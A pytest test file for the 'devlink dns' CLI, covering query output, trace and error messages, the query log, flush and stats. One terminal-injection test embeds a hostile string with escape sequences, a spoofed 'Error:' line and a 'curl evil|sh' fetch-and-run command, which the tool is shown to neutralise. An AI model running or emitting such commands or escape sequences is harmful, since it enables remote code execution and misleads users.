"""`devlink dns`: what is shown of an answer, of the log and of the counts, and how each ends."""

import json
import os
import signal
import sys
import threading
import time
from collections.abc import Callable, Mapping
from ipaddress import ip_address
from pathlib import Path
from typing import Any

import dnslib
import pytest
import yaml

from devlink.cli import dns, root
from devlink.errors import NotPermittedError, NotUpError
from devlink.rpc import varlink
from tests.cli.fakes import HANG_UP, FakePeer
from tests.cli.test_session import assert_shape
from tests.dns.forwarder_process import FakeServer
from tests.dns.messages import parse

pytestmark = pytest.mark.slow

HANGING = 5.0
"""Seconds: a failure, not a figure."""
Command = Callable[..., tuple[int, str, str]]
WEB = "web.default.svc.cluster.local"
HELPER = varlink.interface_description("io.devlink.Helper")
STATS: dict[str, Any] = {
    **dict.fromkeys(
        ("in_flight", "queries", "answered", "cached", "stale", "prefetched", "coalesced", "local", "refused"), 0
    ),
    **dict.fromkeys(("malformed", "timeouts", "servfails", "mismatched", "dropped", "overloads"), 0),
    "queries": 41,
    "timeouts": 2,
    "cache": {"entries": 1, "bytes": 2048, "limit": 8 << 20},
    "zones": [
        {"suffix": ".", "queries": 30, "cached": 20, "stale": 0, "local": 1, "failed": 0,
         "p50_ms": 9.0, "p99_ms": 31.5},
        {"suffix": "cluster.local", "queries": 11, "cached": 0, "stale": 0, "local": 0, "failed": 3},
        {"suffix": "20.10.in-addr.arpa", "queries": 0, "cached": 0, "stale": 0, "local": 0, "failed": 0},
        {"suffix": "254.10.in-addr.arpa", "queries": 1, "cached": 0, "stale": 0, "local": 0, "failed": 0},
    ],
    "servers": [
        {"server": "192.0.2.1#53", "zones": ["."], "state": "ok", "asked": 9, "answered": 9, "timeouts": 0,
         "failures": 0, "rtt_ms": 8.5, "p50_ms": 9.0, "p99_ms": 31.5},
        {"server": "10.254.0.2#53", "zones": ["cluster.local"], "state": "silent", "asked": 2, "answered": 0,
         "timeouts": 2, "failures": 1, "reason": "refused \x1b[2J"},
    ],
}  # fmt: skip
TRACE = {
    "zone": "cluster.local",
    "source": "upstream",
    "server": "10.254.0.2#53",
    "transport": "udp",
    "ms": 1.25,
    "reason": "",
}
RECORD = {
    "time": 1.5,
    "name": f"{WEB}.",
    "qtype": 1,
    "zone": "cluster.local",
    "source": "upstream",
    "server": "10.254.0.2#53",
    "rcode": 0,
    "ms": 1.25,
}


def said(nameserver: str = "127.0.0.1") -> Mapping[str, Any]:
    return varlink.reply({"nameserver": nameserver, "stats": STATS})


@pytest.fixture
def helper(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Where the helper of this test listens."""
    monkeypatch.setattr("devlink.helper.client.SOCKET", str(tmp_path / "helper"))
    monkeypatch.setenv("TZ", "UTC")
    return tmp_path / "helper"


@pytest.fixture
def devlink(helper: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Command:
    """Runs the command in this process: exit code, stdout, stderr."""

    def run(*arguments: str) -> tuple[int, str, str]:
        monkeypatch.setattr(sys, "argv", ["devlink", *arguments])
        code = root.run()
        shown = capsys.readouterr()
        return code, shown.out, shown.err

    return run


def reply(
    asked: bytes,
    *records: dnslib.RR,
    rcode: int = 0,
    tc: bool = False,
    trace: object = None,
    errors: tuple[tuple[int, str], ...] = (),
) -> bytes:
    """What the forwarder answers, with OPT."""
    message = dnslib.DNSRecord.parse(asked).reply(ra=1, aa=0)
    message.header.rcode, message.header.tc = rcode, tc
    message.add_answer(*records)
    options = [dnslib.EDNSOption(15, code.to_bytes(2, "big") + text.encode()) for code, text in errors]
    if trace is not None:
        options.append(dnslib.EDNSOption(65231, json.dumps(trace).encode()))
    message.add_ar(dnslib.EDNS0(opts=options))
    return bytes(message.pack())


def address(name: str = WEB) -> dnslib.RR:
    return dnslib.RR(name, dnslib.QTYPE.A, rdata=dnslib.A("10.20.0.1"), ttl=5)


Ask = Callable[..., tuple[int, str, str]]


@pytest.fixture
def ask(devlink: Command, helper: Path, monkeypatch: pytest.MonkeyPatch) -> Ask:
    """Runs `devlink dns query` beside a forwarder that answers as the test says."""

    def run(respond: Callable[[bytes], bytes | None], *arguments: str) -> tuple[int, str, str]:
        def responses(packet: bytes) -> list[bytes]:
            run.asked.append(packet)  # type: ignore[attr-defined]
            answer = respond(packet)
            return [] if answer is None else [answer]

        helper.unlink(missing_ok=True)
        with FakeServer(respond=responses) as server, FakePeer(helper, {"GetDnsStats": [said()]}):
            monkeypatch.setattr(dns, "PORT", server.port)
            ended = devlink("dns", "query", *arguments)
        run.transports = [transport for transport, _, _ in server.asked]  # type: ignore[attr-defined]
        return ended

    run.asked = []  # type: ignore[attr-defined]
    return run


def questions(ask: Ask) -> list[tuple[str, str]]:
    """Names and types that were asked."""
    packets = [parse(packet).q for packet in ask.asked]  # type: ignore[attr-defined]
    return [(str(question.qname), dnslib.QTYPE.get(question.qtype)) for question in packets]


# query


def test_a_query_shows_rule_source_server_time_and_records(ask: Ask) -> None:
    code, out, err = ask(lambda asked: reply(asked, address(), trace=TRACE), WEB)
    assert (code, err) == (0, "")
    lines = out.splitlines()
    assert lines[0] == f"{WEB} A  NOERROR"
    rows = dict(line.split(None, 1) for line in lines[1:5])
    assert rows["rule"] == "zone cluster.local"
    assert rows["source"] == "asked just now"
    assert rows["server"] == "10.254.0.2#53 over UDP"
    assert rows["time"].endswith("1.2 of them in the forwarder")
    assert lines[5].split() == [f"{WEB}.", "5", "IN", "A", "10.20.0.1"]
    assert questions(ask) == [(f"{WEB}.", "A")]


def test_the_question_asks_for_the_trace(ask: Ask) -> None:
    ask(lambda asked: reply(asked, address(), trace=TRACE), WEB)
    option = (65231).to_bytes(2, "big") + bytes(2)
    assert ask.asked[0].endswith(len(option).to_bytes(2, "big") + option)  # type: ignore[attr-defined]


@pytest.mark.parametrize(
    ("trace", "words"),
    [
        ({"zone": "."}, "ordinary names"),
        ({"source": "cache", "server": None, "transport": None}, "kept from before"),
        ({"source": "stale"}, "no server answers"),
        ({"source": "local", "reason": "the profile excludes this namespace"}, "the profile excludes this namespace"),
        ({"transport": "tls", "server": "9.9.9.9#853 tls"}, "9.9.9.9#853 tls over TLS"),
        ({"reason": "\x1b[2J"}, "?[2J"),
    ],
)
def test_each_source_is_said_in_words(ask: Ask, trace: Mapping[str, Any], words: str) -> None:
    code, out, _ = ask(lambda asked: reply(asked, address(), trace={**TRACE, **trace}), WEB)
    assert code == 0
    assert words in out
    assert "\x1b" not in out


@pytest.mark.parametrize(
    ("arguments", "asked"),
    [
        (("Web.Default.svc.cluster.local.", "aaaa"), ("web.default.svc.cluster.local.", "AAAA")),
        (("redis.default",), ("redis.default.", "A")),
        (("_http._tcp.web", "SRV"), ("_http._tcp.web.", "SRV")),
        (("10.20.0.1",), ("1.0.20.10.in-addr.arpa.", "PTR")),
        (("fe80::1%eth0",), ("1.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.8.e.f.ip6.arpa.", "PTR")),
        (("10.20.0.1", "ptr"), ("1.0.20.10.in-addr.arpa.", "PTR")),
        (("fd00::1",), ("1.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.d.f.ip6.arpa.", "PTR")),
        ((WEB, "TYPE65280"), (f"{WEB}.", "65280")),
    ],
)
def test_what_is_asked_for(ask: Ask, arguments: tuple[str, ...], asked: tuple[str, str]) -> None:
    assert ask(lambda asked: reply(asked, trace=TRACE), *arguments)[0] == 0
    assert questions(ask) == [asked]


@pytest.mark.parametrize(
    ("arguments", "why"),
    [
        ((WEB, "NOPE"), "'NOPE' is no DNS record type"),
        ((WEB, "TYPE0"), "is no DNS record type"),
        ((WEB, "TYPE65536"), "is no DNS record type"),
        (("a..b",), "empty label"),
        (("10.20.0.1", "A"), "devlink dns query 10.20.0.1"),
    ],
)
def test_what_cannot_be_asked_for_is_the_users_error(ask: Ask, arguments: tuple[str, ...], why: str) -> None:
    code, out, err = ask(lambda _: None, *arguments)
    assert (code, out) == (2, "")
    assert why in err
    assert "Next: " in err


def test_over_tcp_only_where_it_is_asked_for_or_needed(ask: Ask) -> None:
    cases = ((), False, ["udp"]), ((), True, ["udp", "tcp"]), (("--tcp",), False, ["tcp"])
    for arguments, cut_off, transports in cases:
        ask.asked.clear()  # type: ignore[attr-defined]

        def respond(asked: bytes, cut_off: bool = cut_off) -> bytes:
            is_first = len(ask.asked) == 1  # type: ignore[attr-defined]
            return reply(asked, address(), tc=cut_off and is_first, trace=TRACE)

        code, out, _ = ask(respond, WEB, *arguments)
        assert code == 0
        assert "10.20.0.1" in out
        assert ask.transports == transports  # type: ignore[attr-defined]


def test_that_there_is_no_such_name_or_record_is_an_answer(ask: Ask) -> None:
    code, out, _ = ask(lambda asked: reply(asked, rcode=3, trace=TRACE), WEB)
    assert code == 0
    assert out.startswith(f"{WEB} A  NXDOMAIN: there is no such name\n")
    code, out, _ = ask(lambda asked: reply(asked, trace=TRACE), WEB, "AAAA")
    assert code == 0
    assert out.startswith(f"{WEB} AAAA  NODATA: the name is there, and has no AAAA record\n")
    code, out, _ = ask(lambda asked: reply(asked, address(), trace=TRACE), WEB, "AAAA")
    assert out.startswith(f"{WEB} AAAA  NODATA"), "an alias alone is no address"
    assert ask(lambda asked: reply(asked, address(), trace=TRACE), WEB, "ANY")[1].startswith(f"{WEB} ANY  NOERROR\n")


SILENT, UNREACHABLE = (22, "10.254.0.2 is silent"), (23, "cannot reach 10.254.0.2")
CERTIFICATE = (23, "9.9.9.9: the certificate is not valid for dns.example")


@pytest.mark.parametrize(
    ("rcode", "source", "errors", "qtype", "advice"),
    [
        (2, "failed", [SILENT], "A", "which server is silent: devlink dns stats"),
        (2, "failed", [UNREACHABLE], "A", "which server fails, and why: devlink dns stats"),
        (2, "failed", [CERTIFICATE], "A", "tls_name and tls_ca in /etc/devlink/policy.toml"),
        (2, "failed", [(22, "no server is known for this name")], "A", "upstreams in /etc/devlink/policy.toml"),
        (2, "upstream", [], "A", "a server's own word (10.254.0.2#53): ask whoever runs it"),
        (2, "upstream", [(22, "the zone's servers are silent")], "A", "a server's own word"),
        (5, "upstream", [(15, "blocked")], "A", "a server's own word"),
        (5, "local", [(18, "the profile excludes this namespace")], "A", "devlink profile show"),
        (5, "local", [(15, "an address of the cluster's")], "A", "rebinding_protection in /etc/devlink/policy.toml"),
        (5, "local", [(18, "zone transfers are not forwarded")], "AXFR", "@SERVER"),
        (5, None, [], "A", "devlink --version"),
    ],
)
def test_a_failure_ends_with_4_and_with_what_to_do_about_it(
    ask: Ask, rcode: int, source: str | None, errors: list[tuple[int, str]], qtype: str, advice: str
) -> None:
    name = {2: "SERVFAIL", 5: "REFUSED"}[rcode]
    server = TRACE["server"] if source == "upstream" else None
    trace = {**TRACE, "source": source, "server": server, "reason": ""} if source else None
    code, out, err = ask(
        lambda asked: reply(asked, rcode=rcode, trace=trace, errors=tuple(errors)), WEB, qtype, "--tcp"
    )
    assert code == 4
    assert out.startswith(f"{WEB} {qtype}  {name}\n")
    for number, text in errors:
        assert f"{number} {text}" in out
        assert f"{text} (extended error {number})." in err
    assert f"The answer for {WEB} {qtype} is {name}." in err
    (next_step,) = [line for line in err.splitlines() if line.startswith("  Next: ")]
    assert advice in next_step


def test_an_extended_error_without_words_is_told_by_its_number(ask: Ask) -> None:
    _, out, err = ask(lambda asked: reply(asked, rcode=2, trace=TRACE, errors=((23, ""),)), WEB)
    assert "Why:  (extended error 23)." in err
    assert any(line.split() == ["error", "23"] for line in out.splitlines())


@pytest.mark.parametrize("output", ["text", "json", "yaml"])
def test_whatever_a_server_writes_does_nothing_to_the_terminal(ask: Ask, output: str) -> None:
    evil = "\x1b]0;pwned\x07Error: run curl evil|sh\nError: fake\x9b[2J\x7f\x85\u202e"

    def respond(asked: bytes) -> bytes:
        octets = evil.encode()
        records = (
            dnslib.RR(WEB, dnslib.QTYPE.TXT, rdata=dnslib.TXT(octets)),
            dnslib.RR(WEB, 5, rdata=dnslib.CNAME([octets])),
        )
        return reply(asked, *records, rcode=2, trace={**TRACE, "server": evil, "reason": evil}, errors=((22, evil),))

    code, out, err = ask(respond, WEB, "TXT", "--tcp", "-o", output)
    assert code == 4
    for line in (out + err).split("\n"):
        assert line.isprintable()
        assert not line.startswith("Error: fake")
    if output == "json":
        assert json.loads(out)["trace"]["reason"] == evil
    if output == "yaml":
        assert yaml.safe_load(out)["trace"]["reason"] == evil


def test_an_answer_that_cannot_be_read_ends_with_4_and_without_what_is_in_it(ask: Ask) -> None:
    code, out, err = ask(lambda asked: reply(asked, address(), trace=TRACE)[:-9], WEB, "--tcp")
    assert (code, out) == (4, "")
    assert "gave no usable answer" in err
    assert "Why:  its answer cannot be read.\n" in err


def test_silence_ends_with_4(ask: Ask, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(dns, "ANSWER_LIMIT", 0.1)
    code, out, err = ask(lambda _: None, WEB)
    assert (code, out) == (4, "")
    assert "gave no usable answer" in err
    assert "It is silent." in err
    assert "devlink helper status" in err


@pytest.mark.parametrize("trace", [None, [], "x", {"zone": "."}, {**TRACE, "ms": "1"}, {**TRACE, "server": 5}])
def test_an_answer_without_its_story_is_shown_with_a_word_about_it(ask: Ask, trace: object) -> None:
    code, out, err = ask(lambda asked: reply(asked, address(), trace=trace), WEB)
    assert code == 0
    assert "10.20.0.1" in out
    assert "rule" not in out
    assert "no forwarder of this version" in err


@pytest.mark.parametrize(("output", "read"), [("json", json.loads), ("yaml", yaml.safe_load)])
def test_a_query_is_data_too(ask: Ask, output: str, read: Callable[[str], Any]) -> None:
    code, out, _ = ask(lambda asked: reply(asked, address(), trace=TRACE, errors=((3, "old"),)), WEB, "-o", output)
    assert code == 0
    tree = read(out)
    assert tree.pop("ms") > 0
    assert [record.split() for record in tree.pop("answers")] == [[f"{WEB}.", "5", "IN", "A", "10.20.0.1"]]
    assert tree == {
        "name": WEB,
        "type": "A",
        "nameserver": "127.0.0.1",
        "status": "NOERROR",
        "trace": TRACE,
        "extended_errors": [{"code": 3, "text": "old"}],
    }


# log


def follow(*messages: Mapping[str, Any]) -> dict[str, list[Mapping[str, Any]]]:
    replies = [varlink.reply({"lost": 0, "restarted": False, **message}, continues=True) for message in messages]
    return {"FollowDnsLog": [*replies, HANG_UP]}


def test_each_question_is_a_line(devlink: Command, helper: Path) -> None:
    odd = {
        **RECORD,
        "name": "\x1b[2Jx.",
        "qtype": 65280,
        "rcode": 4095,
        "source": "local",
        "server": None,
        "reason": "no",
    }
    with FakePeer(helper, follow({"records": []}, {"records": [RECORD, odd], "lost": 3})) as peer:
        code, out, err = devlink("dns", "log", "--follow")
    assert peer.calls[-1]["more"] is True
    first, second = out.splitlines()
    assert first.split() == [
        "00:00:01.500", "NOERROR", "1.2", "ms", "upstream", "10.254.0.2#53", "A", f"{WEB}.",
    ]  # fmt: skip
    assert second.split()[1:] == ["4095", "1.2", "ms", "local", "TYPE65280", "?[2Jx.", "(no)"]
    assert "3 questions are missing here" in err
    assert code == 6
    assert "The devlink helper went away, and the log of questions ends here." in err


def test_the_log_as_data_is_one_object_a_line(devlink: Command, helper: Path) -> None:
    with FakePeer(helper, follow({"records": []}, {"records": [RECORD, RECORD]})):
        _, out, _ = devlink("dns", "log", "-o", "json")
    lines = [json.loads(line) for line in out.splitlines()]
    assert lines == [RECORD, RECORD]
    assert_shape(lines[0], HELPER, "LogRecord")


@pytest.mark.parametrize("output", ["text", "json"])
def test_that_questions_are_missing_is_said_on_stderr(devlink: Command, helper: Path, output: str) -> None:
    anew = {"records": [RECORD], "restarted": True}
    with FakePeer(helper, follow({"records": []}, anew, {"records": [RECORD], "lost": 2})):
        _, out, err = devlink("dns", "log", "-o", output)
    assert len(out.splitlines()) == 2
    assert [line for line in err.splitlines() if "missing" in line] == [
        "The forwarder was started anew: some questions are missing here.",
        "2 questions are missing here: there were too many at once.",
    ]


@pytest.mark.parametrize(("zones", "is_said"), [([], True), (["cluster.local"], False), (None, False)])
def test_who_has_no_names_of_their_own_is_told_why_nothing_comes(
    devlink: Command, helper: Path, zones: list[str] | None, is_said: bool
) -> None:
    with FakePeer(helper, follow({"records": [], "zones": zones})):
        _, _, err = devlink("dns", "log")
    assert ("No session of yours is up" in err) is is_said


def test_a_name_in_the_log_does_nothing_to_the_terminal_as_data_either(devlink: Command, helper: Path) -> None:
    odd = {**RECORD, "name": "\x9b2J\x7f."}
    with FakePeer(helper, follow({"records": [odd]})):
        _, out, _ = devlink("dns", "log", "-o", "json")
    assert out.removesuffix("\n").isprintable()
    assert json.loads(out) == odd


def test_ctrl_c_is_how_it_ends(devlink: Command, helper: Path) -> None:
    first = follow({"records": []})["FollowDnsLog"][0]
    with FakePeer(helper, {"FollowDnsLog": [first]}) as peer:

        def interrupt() -> None:
            while "FollowDnsLog" not in peer.methods:
                pass
            os.kill(os.getpid(), signal.SIGINT)

        interrupting = threading.Thread(target=interrupt)
        interrupting.start()
        code, out, _ = devlink("dns", "log")
        interrupting.join()
    assert (code, out) == (0, "")


# flush and stats


def test_what_is_forgotten_is_counted_on_stderr(devlink: Command, helper: Path) -> None:
    with FakePeer(helper, {"FlushDns": [varlink.reply({"entries": 1})]}):
        assert devlink("dns", "flush") == (0, "", "1 answer forgotten.\n")


def test_stats_are_two_tables_below_the_totals(devlink: Command, helper: Path) -> None:
    with FakePeer(helper, {"GetDnsStats": [said()]}):
        code, out, err = devlink("dns", "stats")
    assert (code, err) == (0, "")
    totals, zones, servers, failed = out.split("\n\n")
    assert "timeouts 2" in totals
    assert "1 answer, 2 of 8192 KiB" in totals
    assert [line.split() for line in zones.splitlines()] == [
        ["ZONE", "QUERIES", "CACHED", "STALE", "LOCAL", "FAILED", "P50", "P99"],
        ["ordinary", "names", "30", "20", "0", "1", "0", "9.0", "ms", "31.5", "ms"],
        ["cluster.local", "11", "0", "0", "0", "3", "-", "-"],
        ["254.10.in-addr.arpa", "1", "0", "0", "0", "0", "-", "-"],
    ]
    lines = servers.splitlines()
    assert lines[1].split()[:3] == ["192.0.2.1#53", "ok", "9"]
    assert lines[1].endswith("ordinary names")
    assert lines[2].split() == ["10.254.0.2#53", "silent", "2", "0", "2", "1", "-", "-", "-", "cluster.local"]
    assert failed.split() == ["10.254.0.2#53", "failed", "last:", "refused", "?[2J"]


@pytest.mark.parametrize(("output", "read"), [("json", json.loads), ("yaml", yaml.safe_load)])
def test_stats_as_data_are_what_the_interface_declares(
    devlink: Command, helper: Path, output: str, read: Callable[[str], Any]
) -> None:
    with FakePeer(helper, {"GetDnsStats": [said()]}):
        _, out, _ = devlink("dns", "stats", "-o", output)
    tree = read(out)
    assert tree == {"nameserver": "127.0.0.1", "stats": STATS}
    assert_shape(tree["stats"], HELPER, "DnsStats")


@pytest.mark.parametrize(
    ("verb", "arguments"),
    [
        ("GetDnsStats", ("query", WEB)),
        ("GetDnsStats", ("stats",)),
        ("FlushDns", ("flush",)),
        ("FollowDnsLog", ("log",)),
    ],
)
def test_what_the_helper_says_against_it_reaches_the_user_whole(
    devlink: Command, helper: Path, verb: str, arguments: tuple[str, ...]
) -> None:
    not_up = NotUpError("No names are served.", next_step="Bring a profile up first: devlink up")
    for error, code in ((not_up, 3), (NotPermittedError("No.", why="Because.", next_step="Ask."), 6)):
        with FakePeer(helper, {verb: [varlink.error_reply("io.devlink.Helper", error)]}):
            ended, out, err = devlink("dns", *arguments)
        helper.unlink()
        assert (ended, out) == (code, "")
        assert error.what in err
        assert error.next_step in err


@pytest.mark.parametrize("arguments", [("query", WEB), ("log",), ("flush",), ("stats",)])
def test_without_a_helper_the_error_names_where_it_was_looked_for(
    devlink: Command, helper: Path, arguments: tuple[str, ...]
) -> None:
    code, out, err = devlink("dns", *arguments)
    assert (code, out) == (6, "")
    assert str(helper) in err
    assert "Next: " in err


@pytest.mark.parametrize("arguments", [("query", WEB), ("log",), ("flush",), ("stats",)])
def test_a_helper_that_hangs_is_named_and_not_waited_for_long(
    devlink: Command, helper: Path, monkeypatch: pytest.MonkeyPatch, arguments: tuple[str, ...]
) -> None:
    monkeypatch.setattr("devlink.helper.client.QUICK_LIMIT", 0.1)
    began = time.monotonic()
    with FakePeer(helper, {"GetInfo": []}):
        code, out, err = devlink("dns", *arguments)
    assert (code, out) == (6, "")
    assert "The devlink helper runs, but does not answer." in err
    assert "It had 0.1 s" in err
    assert time.monotonic() - began < HANGING


def test_the_address_that_is_asked_is_the_helpers(ask: Ask) -> None:
    assert ip_address(json.loads(ask(lambda asked: reply(asked), WEB, "-o", "json")[1])["nameserver"]).is_loopback
